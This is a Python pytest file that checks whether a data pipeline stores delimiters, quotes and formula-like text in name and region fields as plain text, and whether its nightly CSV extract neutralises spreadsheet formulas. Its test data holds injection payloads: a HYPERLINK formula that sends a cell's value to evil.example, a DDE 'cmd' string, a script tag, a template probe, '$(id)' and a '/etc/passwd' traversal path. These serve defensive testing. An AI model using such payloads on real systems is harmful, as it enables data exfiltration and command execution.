"""F14: delimiters, quotes and formulas in names are text: stored as they came, and harmless in what people open."""

from __future__ import annotations

import csv
import importlib
from datetime import date
from pathlib import Path
from types import ModuleType

import pandas as pd
import pytest

from pipelines import landing

ACCOUNTS, CARE, CELLS = "billing_alpha.accounts", "care.complaints", "network.cells"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"click")'
NASTY = (
    FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "north;south", 'the "north"', '"', ";", "a,b", "NA", "null",
    "None", "nan", "1E5", "00017", "'quoted'", "<script>alert(1)</script>", "{{ 7*7 }}", "$(id)", "../../etc/passwd",
)


@pytest.mark.parametrize("delimiter", [";", ",", "|", "\t"])
def test_F14_delimiters_quotes_and_formulas_are_stored_as_text(
    home: Path, drops: ModuleType, delimiter: str
) -> None:
    drops.estate(ACCOUNTS, delimiter=delimiter)
    plain = drops.rows(ACCOUNTS, len(NASTY))
    rows = [{**row, "customer_name": text, "region": text} for row, text in zip(plain, NASTY, strict=True)]
    names = list(rows[0])
    out = [delimiter.join(names)]
    for row in rows:
        cells = [drops._cell(row[name], False) for name in names]
        out.append(delimiter.join(cell if cell.startswith('"') or delimiter not in cell else f'"{cell}"'
                                  for cell in cells))
    drops.put(ACCOUNTS, ("\n".join(out) + "\n").encode(), len(rows))
    (landed,) = landing.land(drops.AS_OF)
    assert (landed.rows, landed.quarantined) == (len(NASTY), 0)
    assert drops.raw(ACCOUNTS)["region"].to_pylist() == list(NASTY)


@pytest.mark.parametrize("feed_id", [CELLS])
def test_F14_in_parquet_too(home: Path, drops: ModuleType, feed_id: str) -> None:
    drops.estate(feed_id)
    rows = [{**row, "region": text} for row, text in zip(drops.rows(feed_id, len(NASTY)), NASTY, strict=True)]
    drops.drop(feed_id, rows)
    landing.land(drops.AS_OF)
    assert drops.raw(feed_id)["region"].to_pylist() == list(NASTY)


def test_F14_no_cell_of_the_nightly_extract_starts_a_formula(
    home: Path, drops: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    nightly = importlib.import_module("pipelines.scoring.extract")
    drops.estate(CELLS)
    drops.drop(CELLS, [{**row, "region": text} for row, text in zip(drops.rows(CELLS, len(NASTY)), NASTY, strict=True)])
    landing.land(drops.AS_OF)
    regions = drops.raw(CELLS)["region"].to_pylist()  # what a sender's text becomes on the roster
    ids = [f"s{number:03d}" for number in range(len(regions))]
    roster = pd.DataFrame({"subscriber_id": ids, "operator": "alpha", "region": regions, "segment": "consumer"})
    scores = pd.DataFrame({name: -0.5 for name in nightly.COLUMNS["churn"]} | {
        "subscriber_id": ids, "reason_1": regions, "model_version": 1}, index=range(len(ids)))
    monkeypatch.setattr(nightly, "_roster", lambda as_of: roster)
    monkeypatch.setattr(nightly, "_scores", lambda model, as_of: scores if model == "churn" else None)
    path = nightly.extract(date(2026, 3, 11))
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["region"].removeprefix("'") for row in rows] == [text.removeprefix("'") for text in regions]
    numbers = {"churn_probability", "churn_decile", "churn_expires_at", "churn_reason_2", "churn_reason_3"}
    cells = [cell for row in rows for name, cell in row.items() if name not in numbers]
    assert len([cell for cell in cells if cell.startswith("'=HYPERLINK")]) == 2
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
